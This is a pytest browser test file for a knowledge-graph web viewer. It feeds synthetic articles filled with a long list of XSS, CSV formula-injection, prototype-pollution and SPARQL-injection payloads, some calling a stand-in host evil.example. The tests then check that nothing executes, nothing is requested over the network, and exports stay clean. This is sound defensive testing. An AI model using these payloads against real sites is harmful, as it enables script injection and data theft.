"""Articles that attack their reader: whatever stands in any field, nothing runs and nothing is asked of the network."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Callable
from dataclasses import fields, is_dataclass
from datetime import date
from enum import Enum
from typing import Any

import pytest
from view_cases import GROUP, ORG, PERSON, PLACE, Reading
from waiting import rest

from kg.records.attribution import Form, Stance
from kg.records.event import Event, Participant, Relation
from kg.records.extraction import Extraction
from kg.records.figure import Bound
from kg.text.article import Span
from kg.view import page
from kg.view.data import view_data

pytestmark = pytest.mark.browser
RUN = "window.__ran=(window.__ran||[]).concat(1)"
PAYLOADS = (
    f"</script><script>{RUN}</script>",
    f"<script>{RUN}</script>",
    "<script src=https://evil.example/a.js></script>",
    f"<script type=module>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    "<img src=https://evil.example/pixel.png>",
    f'"><svg onload={RUN}>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><image href=https://evil.example/i.svg /></svg>",
    "<svg><use href=https://evil.example/u.svg#x /></svg>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://example.org",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox(1)",
    f'<a href="javascript:{RUN}">href</a>',
    "<a href=https://evil.example/link ping=https://evil.example/ping>x</a>",
    f"<b onmouseover={RUN}>over</b>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<iframe src=https://evil.example/></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    "<embed src=https://evil.example/e.swf>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "</style><style>*{background:url(https://evil.example/b)}</style>",
    '<p style="background:url(https://evil.example/c)">x</p>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/r'>",
    "<base href=https://evil.example/>",
    f"<form action=https://evil.example/f><button formaction=javascript:{RUN}>x</button></form>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--<script>-->{RUN}<!--</script>-->",
    "<!-- <script> unclosed",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "]]></script>",
    f"{{{{ 7*7 }}}}{{% raw %}}${{{RUN}}}`${{{RUN}}}`",
    f"'-{RUN}-'\";{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;img src=x onerror={RUN}&#x3e;",
    "\u2028\u2029\u0085 line ends",
    "\u0000\u0007\u001b[31m control \ufeff\ufffe",
    "\u202egnp.exe\u202c \u2066\u2067isolates\u2069 \u200b\u200d",
    '=HYPERLINK("https://evil.example/x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
    "%3Cscript%3E#view=table&sel=e.x",
    '" } . DROP ALL ; SELECT * { ?s ?p "',
    "e\u0301\u0301\u0301\u0301 Z\u0334\u0335\u0336algo 𝕏 \U0001f469\u200d\U0001f4bb",
    "A" * 600,
)


def hostile(payload: str, number: int) -> Extraction:
    """An article of which every text field is the payload."""
    text = f"{payload}\n\n{payload} said {payload} and 5 {payload}.\n"
    r = Reading(
        text,
        title=payload,
        authors=(payload,),
        publisher=payload,
        published=date(2020, 1, 1 + number % 28),
        url=payload,
        language=payload,
        path=payload,
    )
    who = r.entity(PERSON, payload)
    org = r.entity(ORG, payload + " org", payload)
    place = r.entity(PLACE, payload + " place", payload)
    group = r.entity(GROUP, payload + " group", payload, named=False)
    stance = list(Stance)[number % len(Stance)]
    form = list(Form)[number % len(Form)]
    first = r.said(who, payload, "said", payload, form=form, stance=stance, via=group)
    r.said(None, payload, "said", payload, parent=first)
    bounds = {Bound.BETWEEN: (3, 5), Bound.AT_LEAST: (5, None), Bound.AT_MOST: (None, 5), Bound.VAGUE: (None, None)}
    bound = list(bounds)[number % len(bounds)]
    more: dict[str, Any] = {"unit": payload, "per": payload, "concept": payload, "event": payload, "method": payload}
    r.figure(
        "5",
        *bounds[bound],
        bound,
        payload,
        f"and 5 {payload}",
        reporters=(who, group),
        via=org,
        attribution=first,
        place=place,
        start=payload,
        end=payload,
        as_of=payload,
        **more,
    )
    r.role(who, payload, payload, organization=org, place=place, start=payload, end=payload, as_of=payload)
    span = Span(0, len(payload))
    r.relations.append(Relation("x1", payload, who, org, span, first, payload, payload))
    r.events.append(
        Event(
            "v1",
            payload,
            span,
            (Participant("agent", who), Participant(payload, org)),
            span,
            place,
            payload,
            payload,
            attribution=first,
        )
    )
    r.topic(payload, first, entity=place if number % 2 else None)
    done = r.done()
    return Extraction(
        done.article,
        payload,
        *[
            getattr(done, f)
            for f in ("entities", "attributions", "figures", "roles", "times", "events", "relations", "topics")
        ],
        problems=(payload,),
    )


def test_there_are_at_least_forty_kinds() -> None:
    assert len(set(PAYLOADS)) >= 40


def test_every_field_of_text_is_hostile() -> None:
    """What a record can hold of words from outside is the payload in some record of it; ids and closed lists of words are not."""
    made = hostile("<p>", 1)
    ours = {
        "id",
        "local",
        "lexicon",
        "parent",
        "entity",
        "via",
        "reporter",
        "attribution",
        "holder",
        "organization",
        "place",
        "subject",
        "object",
        "topic",
    }
    records = [
        made.article,
        *(r for f in fields(made) if isinstance(part := getattr(made, f.name), tuple) for r in part),
    ]
    plain: dict[tuple[str, str], bool] = {}
    for record in filter(is_dataclass, records):
        for f in fields(record):
            value = getattr(record, f.name)
            if isinstance(value, str) and not isinstance(value, Enum) and f.name not in ours:
                key = (type(record).__name__, f.name)
                plain[key] = plain.get(key, False) or "<p>" in value
    assert len(plain) > 20 and [key for key, held in plain.items() if not held] == []


ALL = [hostile(payload, number) for number, payload in enumerate(PAYLOADS)]
TITLE = " ".join(PAYLOADS[:-1])


@pytest.fixture(scope="module")
def html() -> str:
    return page(ALL, title=TITLE)


def touch_everything(view: Any) -> None:
    """Hover and click on every element that answers, view by view."""
    view.run(
        """() => { for (const e of document.querySelectorAll('#stage *, #panel *, #filters *, header *')) {
          if (!e.isConnected || e.closest('#tools') || e.tagName === 'SUMMARY') continue;
          for (const kind of ['mouseover', 'mouseenter', 'focus', 'mousemove']) e.dispatchEvent(new MouseEvent(kind, {bubbles: true}));
        } }"""
    )
    view.run(
        """() => { for (const e of [...document.querySelectorAll('#stage button, #stage mark, #stage g[role], #stage a')].slice(0, 700)) {
          if (e.isConnected && e.closest('section:not([hidden])')) e.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
        } }"""
    )


@pytest.mark.parametrize("name", ["graph", "claims", "figures", "matrix", "reader", "table", "overview", "map"])
def test_nothing_runs_and_nothing_is_requested(opened: Callable[..., Any], html: str, name: str) -> None:
    view = opened(html, f"view={name}")
    touch_everything(view)
    box = view.page.locator("#stage").bounding_box()
    for step in range(24):
        x, y = box["x"] + 20 + (step * 97) % (box["width"] - 40), box["y"] + 20 + (step * 61) % (box["height"] - 60)
        view.page.mouse.move(x, y)
        if step % 3 == 0 and name in {"claims", "graph"}:
            view.page.mouse.click(x, y)
    kinds = {
        "claims": ("statements", "entities", "topics"),
        "reader": ("figures", "roles", "relations", "events", "articles"),
    }
    for record in kinds.get(name, ()):
        view.run("kind => { for (const r of kgview.data[kind]) kgview.select(r.id); }", record)
    assert view.run("window.__ran") is None
    assert "49" not in view.run("document.title")
    view.assert_quiet()


def test_search_and_dialogs_hold_still(opened: Callable[..., Any], html: str) -> None:
    view = opened(html)
    for query in ("script", "evil", "<img", "__proto__", '"'):
        view.page.fill("#query", query)
        view.page.keyboard.press("Enter")
    view.run(
        "for (const s of kgview.data.statements) kgview.exports.copy('x', kgview.exports.sparql(s.id)), document.querySelector('dialog[open]').close()"
    )
    assert view.run("window.__ran") is None
    view.assert_quiet()


def test_the_reader_shows_every_article(opened: Callable[..., Any], html: str) -> None:
    view = opened(html, "view=reader")
    for key in view.run("kgview.data.articles.map(a => a.id)"):
        view.run("id => kgview.select(id)", key)
        assert view.run("document.querySelector('#reader article').textContent.length") > 5
        touch_everything(view)
        break
    for key in view.run("kgview.data.articles.map(a => a.id)"):
        view.run("id => kgview.select(id)", key)
    assert view.run("window.__ran") is None
    view.assert_quiet()


def test_the_data_comes_through_unchanged(opened: Callable[..., Any], html: str) -> None:
    view = opened(html)
    inside = json.loads(view.run("document.getElementById('data').textContent"))
    expected = json.loads(json.dumps(view_data(ALL, title=TITLE)))
    assert {key: inside[key] for key in expected} == expected
    texts = {a["title"] for a in inside["articles"]}
    assert texts == set(PAYLOADS)


@pytest.mark.parametrize("name", ["graph", "claims", "figures", "matrix", "reader", "table", "overview", "map"])
def test_exports_are_well_formed_whatever_the_text(opened: Callable[..., Any], html: str, name: str) -> None:
    view = opened(html, f"view={name}")
    rest(view.page, 150)
    drawn = ET.fromstring(view.run("kgview.exports.svgText()"))
    assert {e.tag.split("}")[1] for e in drawn.iter()} <= {
        "svg",
        "g",
        "path",
        "circle",
        "line",
        "rect",
        "text",
        "title",
    }
    assert not [a for e in drawn.iter() for a in e.attrib if a.lower().startswith("on") or "href" in a]


def test_tables_to_take_along_are_well_formed_and_run_no_formula(opened: Callable[..., Any], html: str) -> None:
    view = opened(html)
    ET.fromstring(view.run("kgview.exports.graphml()"))
    rows = list(csv.reader(io.StringIO(view.run("kgview.exports.csv('statements')").lstrip("\ufeff"), newline="")))
    assert len(rows) == 2 * len(PAYLOADS) + 1
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if cell[:1] in {"=", "+", "@"}]
